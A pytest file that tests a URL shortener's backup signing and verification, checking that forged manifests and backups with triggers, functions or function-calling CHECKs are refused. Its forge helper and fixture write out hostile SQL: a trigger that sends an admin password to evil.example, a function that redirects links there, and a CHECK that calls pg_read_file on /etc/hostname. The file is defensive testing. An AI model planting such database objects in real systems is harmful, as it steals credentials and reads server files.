"""Backups that cannot be forged or poisoned: a manifest is signed with this
installation's key, and a backup whose schema holds anything TinyLink's
migrations do not create (a trigger, a function, a view, a CHECK that calls
a function) is refused before anything is loaded."""

import json
import shutil
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest
from django.db import connection

from links.models import Link
from opsconsole.backups.create import create_backup
from opsconsole.backups.files import sha256_of
from opsconsole.backups.manifest import sign
from opsconsole.backups.verify import verify_backup
from opsconsole.errors import OpsError
from tests.opsconsole.helpers import (
    data_checksum,
    error_line,
    make_sample_data,
    manage,
    manifest_path,
)

on_sqlite = pytest.mark.skipif(connection.vendor != "sqlite", reason="SQLite files")
on_postgresql = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="PostgreSQL objects"
)


@pytest.fixture(autouse=True)
def _backups_in_tmp(settings, tmp_path):
    settings.BACKUP_DIR = tmp_path / "backups"
    # Plain files, so a test can do what a forger does to one.
    settings.BACKUP_COMPRESSION_LEVEL = 0


def _manifest(backup_path):
    return json.loads(manifest_path(backup_path).read_text())


def _write_manifest(backup_path, data):
    manifest_path(backup_path).write_text(json.dumps(data))


def _forge(backup_path, forged_path, *, created_at="2999-01-01T00:00:00+00:00"):
    """What the attacker in the report did: a copy of a real backup with two
    triggers added, its manifest's size, sha256 and created_at rewritten."""
    shutil.copy(backup_path, forged_path)
    with closing(sqlite3.connect(forged_path)) as db:
        db.executescript(
            "CREATE TRIGGER steal AFTER UPDATE ON links_link BEGIN "
            "UPDATE links_link SET target_url = 'https://evil.example/?h=' || "
            "(SELECT password FROM auth_user LIMIT 1); END;"
            "CREATE TRIGGER steal2 AFTER INSERT ON links_link BEGIN SELECT 1; END;"
        )
    data = _manifest(backup_path)
    data["artifact"] = {
        "name": forged_path.name,
        "size": forged_path.stat().st_size,
        "sha256": sha256_of(forged_path),
    }
    data["created_at"] = created_at
    _write_manifest(forged_path, data)


@on_sqlite
@pytest.mark.slow
def test_a_forged_backup_is_refused_by_drill_and_restore(transactional_db):
    make_sample_data()
    backup = create_backup()
    forged = backup.path.with_name("tinylink-sqlite-29990101T000000000000Z.sqlite3")
    _forge(backup.path, forged)
    before = data_checksum()

    drill = manage("restore_test", "--latest")
    restore = manage("restore", "--latest", "--noinput")

    assert drill.returncode == 1
    assert "not signed with this installation's" in drill.stdout + drill.stderr
    assert restore.returncode == 1
    assert "not signed with this installation's" in error_line(restore.stderr)
    connection.close()
    assert data_checksum() == before


@on_sqlite
def test_trusting_an_unsigned_backup_still_refuses_its_triggers(db, settings):
    make_sample_data()
    backup = create_backup()
    forged = backup.path.with_name("forged.sqlite3")
    _forge(backup.path, forged, created_at=_manifest(backup.path)["created_at"])
    with pytest.raises(OpsError, match=r"holds a trigger \(steal\)"):
        verify_backup(forged, trust_unsigned=True)


def test_a_manifest_dated_in_the_future_is_refused_even_when_signed(db):
    make_sample_data()
    backup = create_backup()
    data = _manifest(backup.path)
    data["created_at"] = "2999-01-01T00:00:00+00:00"
    _write_manifest(backup.path, sign(data))
    with pytest.raises(OpsError, match="in the future"):
        verify_backup(backup.path)


def test_an_unsigned_manifest_needs_trust_unsigned(db):
    make_sample_data()
    backup = create_backup()
    data = _manifest(backup.path)
    del data["signature"]
    _write_manifest(backup.path, data)
    with pytest.raises(OpsError, match=r"unsigned manifest.*--trust-unsigned"):
        verify_backup(backup.path)
    assert verify_backup(backup.path, trust_unsigned=True).manifest == data


def test_any_change_to_a_signed_manifest_breaks_its_signature(db):
    make_sample_data()
    backup = create_backup()
    data = _manifest(backup.path)
    data["row_counts"]["links_link"] += 1
    _write_manifest(backup.path, data)
    with pytest.raises(OpsError, match="not signed with this installation's"):
        verify_backup(backup.path)


def test_a_rotated_key_still_accepts_backups_signed_with_the_old_one(db, settings):
    settings.BACKUP_SIGNING_KEY = "old-key-" + "x" * 40
    make_sample_data()
    backup = create_backup()
    settings.BACKUP_SIGNING_KEY = "new-key-" + "y" * 40
    with pytest.raises(OpsError, match="not signed with this installation's"):
        verify_backup(backup.path)
    settings.BACKUP_SIGNING_KEY_FALLBACKS = ["old-key-" + "x" * 40]
    verify_backup(backup.path)


@pytest.fixture
def poisoned_database(transactional_db):
    """Objects that only an attacker with write access to the database (or a
    hand-made dump) would add. Removed afterwards: flushing tables does not."""
    statements = {
        "function": (
            "CREATE FUNCTION tinylink_evil() RETURNS trigger LANGUAGE plpgsql AS "
            "$$ BEGIN NEW.target_url := 'https://evil.example/'; RETURN NEW; END $$",
            "DROP FUNCTION IF EXISTS tinylink_evil() CASCADE",
        ),
        "check": (
            "ALTER TABLE links_link ADD CONSTRAINT tinylink_evil_check "
            "CHECK (pg_read_file('/etc/hostname') <> '')",
            "ALTER TABLE links_link DROP CONSTRAINT IF EXISTS tinylink_evil_check",
        ),
    }

    def poison(kind):
        with connection.cursor() as cursor:
            cursor.execute(statements[kind][0])

    yield poison
    with connection.cursor() as cursor:
        for _, undo in statements.values():
            cursor.execute(undo)


@on_postgresql
@pytest.mark.parametrize(
    ("kind", "refusal"),
    [
        ("function", r"holds a FUNCTION \(public\.tinylink_evil\(\)\)"),
        ("check", r"calls pg_read_file\(\)"),
    ],
)
def test_a_backup_with_code_in_its_schema_is_refused_before_loading(
    poisoned_database, kind, refusal
):
    make_sample_data()
    poisoned_database(kind)
    backup = create_backup()
    Link.objects.create(short_code="after", target_url="https://example.com/")
    with pytest.raises(OpsError, match=refusal):
        verify_backup(backup.path, trust_unsigned=True)
    assert Link.objects.filter(short_code="after").exists()


def test_a_backup_made_here_is_signed_and_verifies(db):
    make_sample_data()
    backup = create_backup()
    assert len(_manifest(backup.path)["signature"]) == 64
    assert verify_backup(backup.path).path == Path(backup.path)
